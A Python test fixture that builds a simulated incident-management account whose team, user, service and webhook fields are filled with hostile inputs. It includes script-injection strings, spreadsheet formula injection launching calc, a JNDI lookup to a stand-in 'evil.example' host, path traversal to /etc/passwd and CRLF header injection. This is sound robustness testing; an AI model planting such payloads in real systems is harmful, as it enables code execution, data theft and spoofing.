"""An account whose owner tries to break whatever reads it."""

from __future__ import annotations

from datetime import datetime

from tests.simulator import builders
from tests.simulator.account import Account
from tests.simulator.records import ago

HOSTILE_NAMES = (
    "two\nlines\r\nand a carriage return",
    "bell \x07, backspace \x08, null \x00, delete \x7f",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "right \u202eto left\u202c \u200fmark\u200e \u2066isolate\u2069",
    "\U0001f525 on call \U0001f469\u200d\U0001f692\ufe0f",
    "<script>alert('PagerDuty')</script>",
    '"><img src=x onerror=alert(1)>]]>-->',
    '=HYPERLINK("https://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1, with a \"quote\"; and 'another'",
    "long " + "0123456789" * 1024,
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a} %s %(name)s {0}",
    "::error file=app.py,line=1::workflow command",
    "[link](javascript:alert(1)) | table | `code` **bold**",
    "zero\u200bwidth\ufeff, line\u2028and paragraph\u2029separator, \u0085",
    " ",
    "",
)

HOSTILE_IDS = (
    "../users",
    "P/../../etc/passwd",
    "P%2F..%2Fusers",
    "P?include[]=everything",
    "P#fragment",
    "P\r\nX-Injected: yes",
    "[PBRACKETS]",
    "P::test_name[other]",
    "account",
    "=P1+1",
)

HOSTILE_URLS = (
    "http://admin:hunter2@intranet.example/hook",
    "https://user:pa%3Ass@hooks.example:8443/in?key=a&key=b",
    " HTTPS://hooks.example/upper-case-and-blank ",
    "http://[::1",
    "https://hooks.example:99999999/port",
    "javascript:alert(1)",
    "ftp://files.example/incidents",
    "//no-scheme.example/hook",
    "https://",
    "https://hooks.example/\u202egnp.exe",
)


def hostile(now: datetime) -> Account:
    """Return an account in which every text is meant to do harm; the structure is sound."""
    teams = [
        builders.a_team(name, id=f"PTEAM{number:02}") for number, name in enumerate(HOSTILE_NAMES)
    ]
    users = [
        builders.a_user(
            name,
            "owner" if number == 0 else "limited_user",
            id=f"PUSER{number:02}",
            email=f"user{number}@fernhill.example",
            teams=[teams[number]],
            job_title=name,
        )
        for number, name in enumerate(HOSTILE_NAMES)
    ]
    users += [
        builders.a_user(f"User {number}", id=identity, email=f"id{number}@fernhill.example")
        for number, identity in enumerate(HOSTILE_IDS)
    ]
    account = Account(now, users=users, teams=teams)
    add_policies(account)
    add_services(account)
    add_endpoints(account)
    account.incident_workflows = [
        builders.a_workflow(name, id=f"PFLOW{number:02}")
        for number, name in enumerate(HOSTILE_NAMES)
    ]
    account.priorities = [builders.a_priority(name) for name in HOSTILE_NAMES]
    account.audit_records = [
        builders.an_audit_record(
            ago(now, 1 + 20 * number),
            method="api_token",
            truncated_token="\n=<b",
            actor=builders.an_api_key(name, id=f"PKEY{number:02}"),
            root=account.services[0],
        )
        for number, name in enumerate(HOSTILE_NAMES)
    ]
    return account


def add_policies(account: Account) -> None:
    """Add schedules and policies with hostile names and ids."""
    for number, name in enumerate(HOSTILE_NAMES):
        schedule = builders.a_layer_schedule(name, account.users[:2], id=f"PSCHED{number:02}")
        account.schedules.append(schedule)
        account.escalation_policies.append(
            builders.a_policy(name, [schedule], [account.users[0]], id=f"PPOLICY{number:02}")
        )
    for number, identity in enumerate(HOSTILE_IDS):
        account.shift_schedules.append(
            builders.a_shift_schedule(f"Shifts {number}", account.users[:2], id=identity)
        )


def add_services(account: Account) -> None:
    """Add services with hostile names, ids and web addresses."""
    for number, name in enumerate(HOSTILE_NAMES):
        policy = account.escalation_policies[number]
        service = builders.a_service(name, policy, id=f"PSERVICE{number:02}")
        service["integrations"] = [builders.an_integration(name, service=service)]
        account.services.append(service)
    for number, identity in enumerate(HOSTILE_IDS):
        policy = account.escalation_policies[number]
        account.services.append(
            builders.a_service(
                f"Service {number}", policy, id=identity, html_url=HOSTILE_URLS[number]
            )
        )


def add_endpoints(account: Account) -> None:
    """Add extensions and subscriptions that send to odd addresses."""
    for number, url in enumerate(HOSTILE_URLS):
        name = HOSTILE_NAMES[number]
        account.extensions.append(
            builders.an_extension(name, account.services[:1], endpoint_url=url)
        )
        account.webhook_subscriptions.append(builders.a_webhook_subscription(name, url))
